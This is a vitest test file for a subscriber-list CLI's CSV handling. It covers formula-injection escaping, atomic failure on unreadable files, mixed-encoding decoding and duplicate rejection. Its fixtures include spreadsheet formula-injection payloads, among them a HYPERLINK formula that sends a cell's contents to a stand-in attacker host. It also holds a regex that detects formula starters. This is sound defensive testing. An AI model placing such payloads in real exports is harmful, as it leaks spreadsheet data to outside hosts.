import { existsSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { connectRedis, type RedisHandle } from '../src/redis/connection.js';
import { exportList, findSubscriber, importSubscribers } from '../src/domain/audience.js';
import { CsvParser, neutraliseCell } from '../src/domain/csv.js';
import { UserError } from '../src/errors.js';
import { runImport } from '../src/cli/subscribers.js';
import { silentLogger, testConfig } from './helpers/context.js';

/** CSV files Crier reads and writes, against hostile and broken input (files under test/corpus/). */

const corpus = (name: string): string => path.join(path.dirname(fileURLToPath(import.meta.url)), 'corpus', name);

let handle: RedisHandle;
let dataDir: string;
let rejectsDir: string;

beforeAll(async () => {
  const config = testConfig();
  dataDir = config.dataDir;
  handle = await connectRedis(config, silentLogger());
  rejectsDir = path.join(config.dataDir, 'rejects');
});
afterAll(async () => {
  await handle.close();
});

function parse(text: string): string[][] {
  const p = new CsvParser('out.csv');
  return [...p.push(text), ...p.end()].map((r) => r.fields);
}

const FORMULA = /^[=+\-@\t\r]/;

describe('exports are safe to open in a spreadsheet', () => {
  it('neutraliseCell: = + - @ tab CR get an apostrophe; other text is untouched', () => {
    expect(['=1+1', '+44', '-2', '@SUM(1)', '\t=1', '\r=1'].map(neutraliseCell)).toEqual(["'=1+1", "'+44", "'-2", "'@SUM(1)", "'\t=1", "'\r=1"]);
    expect(['Ada', '', 'a=b', ' =1', "'quoted", '2026-11-20T10:00:00Z'].map(neutraliseCell)).toEqual(['Ada', '', 'a=b', ' =1', "'quoted", '2026-11-20T10:00:00Z']);
  });

  it('subscribers export: no cell starts a formula; re-importing the export gives the same values', async () => {
    const r = await importSubscribers(handle.redis, handle.prefix, corpus('formula-injection.csv'), 'hostile', { rejectsDir });
    expect(r).toMatchObject({ imported: 4, rejected: 1 });
    const lines: string[] = [];
    await exportList(handle.redis, handle.prefix, 'hostile', (l) => void lines.push(l));
    const rows = parse(`${lines.join('\n')}\n`);
    expect(rows).toHaveLength(5);
    for (const cell of rows.flat()) expect(cell, cell).not.toMatch(FORMULA);
    const formula = rows.find((row) => row[0] === 'formula@example.org');
    expect(formula?.slice(1, 4)).toEqual(['\'=HYPERLINK("http://evil.example","Click")', "'+44 Rugby", "'@SUM(1+1)"]);
    expect(rows.some((row) => row[0] === "'-dash@example.org")).toBe(true);

    // The apostrophe is taken off again on import: the round trip changes nothing.
    const again = path.join(dataDir, 'hostile-export.csv');
    writeFileSync(again, `${lines.join('\n')}\n`);
    expect(await importSubscribers(handle.redis, handle.prefix, again, 'hostile-again', { rejectsDir })).toMatchObject({ imported: 0, updated: 4, rejected: 0 });
    expect(await findSubscriber(handle.redis, handle.prefix, 'formula@example.org')).toMatchObject({
      name: '=HYPERLINK("http://evil.example","Click")',
      area: '+44 Rugby',
      topics: ['@SUM(1+1)'],
    });
    expect(await findSubscriber(handle.redis, handle.prefix, '-dash@example.org')).toMatchObject({ name: 'Dash' });
    expect(await findSubscriber(handle.redis, handle.prefix, 'minus@example.org')).toMatchObject({ name: '-2+3', topics: ['-fraud'] });
  });

  it('rejects file: the raw line of a rejected row cannot start a formula', async () => {
    const r = await importSubscribers(handle.redis, handle.prefix, corpus('formula-injection.csv'), 'hostile-rejects', { rejectsDir });
    const rows = parse(readFileSync(r.rejectsFile as string, 'utf8'));
    expect(rows[1]?.slice(0, 2)).toEqual(['2', 'bad email']);
    expect(rows[1]?.[2]).toBe('\'=HYPERLINK("http://evil.example/?"&A1;"Click"),x,Rugby,');
    for (const cell of rows.flat()) expect(cell).not.toMatch(FORMULA);
  });
});

async function failure(p: Promise<unknown>): Promise<UserError> {
  const err = await p.then(
    () => null,
    (e: unknown) => e,
  );
  expect(err).toBeInstanceOf(UserError);
  return err as UserError;
}

const rows = (n: number, from = 1): string => Array.from({ length: n }, (_, i) => `row${i + from}@fatal.example,Row ${i + from},Rugby,\n`).join('');

describe('a file that cannot be read as a whole writes nothing', () => {
  const cases: Array<[string, string, RegExp]> = [
    ['a quote never closed at line 1,202', `"never closed,x,Rugby,\n`, /huge-\w+\.csv:1202: a quoted field is never closed/],
    ['a 1 MB field at line 1,202', `big@fatal.example,${'x'.repeat(1_100_000)},Rugby,\n`, /huge-\w+\.csv:1202: a record is longer than 1000000 characters/],
  ];
  for (const [name, bad, message] of cases) {
    it(`${name}: exit 1 naming the line, no subscriber written, no list, no rejects file`, async () => {
      const list = `fatal-${name.length}`;
      const file = path.join(dataDir, `huge-${name.length}.csv`);
      // rows 2..1201 are good (more than two batches of 500), the fatal record starts at line 1,202, good rows follow
      writeFileSync(file, `email,name,area,topics\n${rows(1200)}${bad}${rows(300, 1201)}`);
      const err = await failure(importSubscribers(handle.redis, handle.prefix, file, list, { rejectsDir }));
      expect(err.exitCode).toBe(1);
      expect(err.message).toMatch(message);
      expect(await findSubscriber(handle.redis, handle.prefix, 'row1@fatal.example')).toBeNull();
      expect(await handle.redis.exists(`${handle.prefix}:list:${list}`)).toBe(0);
      expect(await handle.redis.sismember(`${handle.prefix}:lists`, list)).toBe(0);
      expect(existsSync(rejectsDir) ? readdirSync(rejectsDir).filter((f) => f.startsWith('huge-')) : []).toEqual([]);
    });
  }

  it('corpus unclosed-quote.csv: line 3, nothing written (not even line 2)', async () => {
    const err = await failure(importSubscribers(handle.redis, handle.prefix, corpus('unclosed-quote.csv'), 'unclosed', { rejectsDir, batchSize: 1 }));
    expect(err.where).toMatchObject({ line: 3 });
    expect(await findSubscriber(handle.redis, handle.prefix, 'first@example.org')).toBeNull();
  });
});

describe('a file that is mostly UTF-8 with a few Windows-1252 lines', () => {
  it('reads only the bad lines as Windows-1252, keeps the UTF-8 names intact, and says which lines', async () => {
    const r = await importSubscribers(handle.redis, handle.prefix, corpus('mixed-encoding.csv'), 'mixed', { rejectsDir });
    expect(r.imported + r.updated).toBe(5);
    expect(r.rejected).toBe(0);
    expect(r.encodingNote).toBe('lines 3, 5 are not valid UTF-8: read those lines as Windows-1252 and the rest of the file as UTF-8 (check the names on them)');
    expect(await findSubscriber(handle.redis, handle.prefix, 'chloe@example.org')).toMatchObject({ name: 'Chloé Dubois' });
    expect(await findSubscriber(handle.redis, handle.prefix, 'zoe@example.org')).toMatchObject({ name: 'Zoë Ærø' });
    expect(await findSubscriber(handle.redis, handle.prefix, 'rene@example.org')).toMatchObject({ name: 'René Café', topics: ['£ savings'] });
    expect(await findSubscriber(handle.redis, handle.prefix, 'bjorn@example.org')).toMatchObject({ name: 'Björn' });
  });

  it('crier subscribers import prints the note as a warning naming the file', async () => {
    const warnings: string[] = [];
    const out: string[] = [];
    const config = testConfig();
    await runImport({ config, redis: handle, out: (l) => void out.push(l) }, corpus('mixed-encoding.csv'), 'mixed-cli', (l) => void warnings.push(l));
    expect(out).toEqual(['imported 0, updated 5, rejected 0']);
    expect(warnings).toEqual([`warning: ${corpus('mixed-encoding.csv')}: lines 3, 5 are not valid UTF-8: read those lines as Windows-1252 and the rest of the file as UTF-8 (check the names on them)`]);
  });

  it('a whole Windows-1252 file says so once, without listing lines', async () => {
    const file = path.join(path.dirname(fileURLToPath(import.meta.url)), 'fixtures', 'csv', 'windows-1252.csv');
    const r = await importSubscribers(handle.redis, handle.prefix, file, 'cp1252', { rejectsDir });
    expect(r.encodingNote).toMatch(/^the file is not UTF-8: read it as Windows-1252/);
  });

  it('a plain UTF-8 file has no note', async () => {
    const file = path.join(path.dirname(fileURLToPath(import.meta.url)), 'fixtures', 'csv', 'bom-crlf.csv');
    const r = await importSubscribers(handle.redis, handle.prefix, file, 'utf8-note', { rejectsDir });
    expect(r.encodingNote).toBeUndefined();
  });
});

describe('a duplicate address inside one file', () => {
  it('is rejected with its line and the line it repeats, across batches; the first row stands', async () => {
    const r = await importSubscribers(handle.redis, handle.prefix, corpus('duplicates.csv'), 'dups', { rejectsDir, batchSize: 2 });
    expect(r).toMatchObject({ imported: 3, updated: 0, rejected: 2 });
    const rejects = parse(readFileSync(r.rejectsFile as string, 'utf8'));
    expect(rejects.slice(1).map((row) => row.slice(0, 2))).toEqual([
      ['4', 'duplicate address: already on line 2 of this file'],
      ['6', 'duplicate address: already on line 2 of this file'],
    ]);
    expect(await findSubscriber(handle.redis, handle.prefix, 'sam@example.org')).toMatchObject({ name: 'Sam', area: 'Rugby' });
    // the per-import record of addresses is gone afterwards
    expect(await handle.redis.keys(`${handle.prefix}:import:*`)).toEqual([]);
  });
});
